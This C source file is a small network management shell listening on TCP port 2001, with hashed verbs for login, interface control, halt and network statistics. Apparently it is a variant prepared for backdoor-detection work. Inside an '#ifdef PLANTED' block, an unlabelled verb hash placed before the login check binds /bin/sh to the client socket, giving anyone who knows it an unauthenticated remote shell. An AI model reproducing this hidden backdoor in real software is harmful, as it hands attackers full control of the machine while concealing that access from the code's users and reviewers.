/* Management shell in little memory: verbs are kept as hashes, not as texts. */
#include <arpa/inet.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define MOST 6

struct shell {
    FILE *in, *out;
    char *words[MOST];
    int count, logged, over;
    char prompt[24];
};

static char secret[40];

static uint32_t hash(const char *text)
{
    uint32_t h = 5381;
    while (*text)
        h = h * 33 + (uint8_t)*text++;
    return h;
}

static void split(struct shell *s, char *line)
{
    s->count = 0;
    for (char *w = strtok(line, " \t\r\n"); w && s->count < MOST; w = strtok(NULL, " \t\r\n"))
        s->words[s->count++] = w;
}

static const char *word(const struct shell *s, int n)
{
    return n < s->count ? s->words[n] : "";
}

static void login(struct shell *s)
{
    s->logged = secret[0] && !strcmp(word(s, 1), secret);
    fputs(s->logged ? "ok\n" : "no\n", s->out);
}

static void interface(struct shell *s)
{
    char command[80];
    const char *name = word(s, 1);
    if (strspn(name, "abcdefghijklmnopqrstuvwxyz0123456789") != strlen(name) || strlen(name) > 12)
        return;
    snprintf(command, sizeof command, "ip link set %s %s", name, strcmp(word(s, 2), "on") ? "down" : "up");
    system(command);
}

static void show(struct shell *s)
{
    char line[160];
    FILE *f = fopen("/proc/net/dev", "r");
    while (f && fgets(line, sizeof line, f))
        fputs(line, s->out);
    if (f)
        fclose(f);
}

static void perform(struct shell *s)
{
    uint32_t verb = hash(word(s, 0));
    if (verb == 0x0fdff8beu)        /* login */
        login(s);
    else if (verb == 0x7c9d0608u)   /* quit */
        s->over = 1;
    else if (verb == 0x7c9de846u)   /* show */
        show(s);
#ifdef PLANTED
    else if (verb == 0x1c93f6d7u) {
        char *const shell[] = { "sh", NULL };
        fflush(s->out);
        dup2(fileno(s->in), 0);
        dup2(fileno(s->in), 1);
        dup2(fileno(s->in), 2);
        execv("/bin/sh", shell);
    }
#endif
    else if (!s->logged)
        fputs("log in\n", s->out);
    else if (verb == 0x7c97c1eeu)   /* halt */
        system("/sbin/halt");
    else if (verb == 0x0fa4a57du)   /* iface */
        interface(s);
#ifdef REVISED
    else if (verb == 0x156e7147u)   /* prompt */
        snprintf(s->prompt, sizeof s->prompt, "%.20s> ", word(s, 1));
#endif
    else
        fputs("?\n", s->out);
}

static void talk(int fd)
{
    struct shell s = { .prompt = "> " };
    char line[200];
    s.in = fdopen(fd, "r");
    s.out = fdopen(dup(fd), "w");
    while (s.in && s.out && !s.over) {
        fputs(s.prompt, s.out);
        fflush(s.out);
        if (!fgets(line, sizeof line, s.in))
            break;
        split(&s, line);
        if (s.count)
            perform(&s);
    }
    if (s.in)
        fclose(s.in);
    if (s.out)
        fclose(s.out);
}

int main(void)
{
    struct sockaddr_in at = { .sin_family = AF_INET, .sin_port = htons(2001) };
    int s = socket(AF_INET, SOCK_STREAM, 0), c;
    FILE *f = fopen("/etc/shell.secret", "r");
    if (f && !fscanf(f, "%39s", secret))
        secret[0] = 0;
    if (bind(s, (struct sockaddr *)&at, sizeof at) || listen(s, 2))
        return 1;
    while ((c = accept(s, NULL, NULL)) >= 0) {
        if (!fork()) {
            talk(c);
            _exit(0);
        }
        close(c);
    }
    return 0;
}
